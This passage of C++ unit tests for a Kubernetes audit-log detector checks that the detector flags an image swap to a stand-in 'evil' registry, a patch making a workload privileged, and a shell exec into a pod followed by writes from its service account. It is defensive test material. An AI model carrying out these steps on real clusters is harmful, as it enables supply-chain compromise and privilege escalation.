  bump.id = "bump";
  bump.request = R"({"spec":{"template":{"spec":{"containers":[{"name":"app","image":"nginx:1.26"}]}}}})";
  bump.response = deployment(container("app", "nginx:1.26"));
  auto rollout = only(run(d, bump), "KG-AUD-002");
  ASSERT_EQ(rollout.size(), 1u);
  EXPECT_EQ(rollout[0].severity, Severity::Low);
  Ev swap = bump;
  swap.id = "swap";
  swap.request =
      R"({"spec":{"template":{"spec":{"containers":[{"name":"app","image":"docker.io/evil/nginx:1.26"}]}}}})";
  swap.response = deployment(container("app", "docker.io/evil/nginx:1.26"));
  auto other = only(run(d, swap), "KG-AUD-002");
  ASSERT_EQ(other.size(), 1u);
  EXPECT_EQ(other[0].severity, Severity::High);
}

// A patch that only sets privileged on a workload the log already knows
// changes no container, and is judged all the same.
TEST(AuditClasses, PatchMakingAKnownWorkloadPrivilegedIsJudged) {
  auto d = make_detector();
  Ev create;
  create.resource = "deployments";
  create.group = "apps";
  create.request = create.response = deployment(container("app", "nginx:1.25"));
  EXPECT_TRUE(only(run(d, create), "KG-AUD-017").empty());
  Ev patch = create;
  patch.verb = "patch";
  patch.id = "p";
  patch.request =
      R"({"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}})";
  patch.response = deployment(container("app", "nginx:1.25", R"(,"securityContext":{"privileged":true})"));
  EXPECT_EQ(only(run(d, patch), "KG-AUD-017").size(), 1u);
  // Scaling or restarting it is not another admission to judge.
  Ev restart = create;
  restart.verb = "patch";
  restart.id = "r";
  restart.request = R"({"spec":{"template":{"metadata":{"annotations":{"kubectl.kubernetes.io/restartedAt":"x"}}}}})";
  restart.response = patch.response;
  EXPECT_TRUE(only(run(d, restart), "KG-AUD-017").empty());
}

}  // namespace
}  // namespace kg::testing

namespace kg::testing {
namespace {

// A controller's pod is created by generateName: the log's reference has no
// name; the pod's service account is still known to the incident.
TEST(AuditClasses, ControllersPodCreatedByGenerateNameKeepsItsServiceAccount) {
  auto d = make_detector();
  Ev create;
  create.name = "";
  create.user = "system:serviceaccount:kube-system:replicaset-controller";
  create.request = create.response =
      R"({"kind":"Pod","apiVersion":"v1","metadata":{"name":"w-7d9f-abcde","generateName":"w-7d9f-","namespace":"shop"},"spec":{"serviceAccountName":"builder","containers":[{"name":"app","image":"nginx:1.25"}]}})";
  run(d, create);
  Ev exec;
  exec.subresource = "exec";
  exec.name = "w-7d9f-abcde";
  exec.uri = "/api/v1/namespaces/shop/pods/w-7d9f-abcde/exec?command=sh";
  exec.id = "e";
  exec.time = "2026-01-01T10:02:00Z";
  exec.code = 400;
  run(d, exec);
  Ev write;
  write.verb = "patch";
  write.resource = "deployments";
  write.group = "apps";
  write.id = "w";
  write.time = "2026-01-01T10:03:00Z";
  write.user = "system:serviceaccount:shop:builder";
  write.request = R"({"spec":{"replicas":2}})";
  auto incident = only(run(d, write), "KG-AUD-018");
  ASSERT_EQ(incident.size(), 1u);
  EXPECT_EQ(incident[0].severity, Severity::Critical);
  EXPECT_EQ(evidence(incident[0], "podServiceAccount"), "builder");
}

}  // namespace
}  // namespace kg::testing
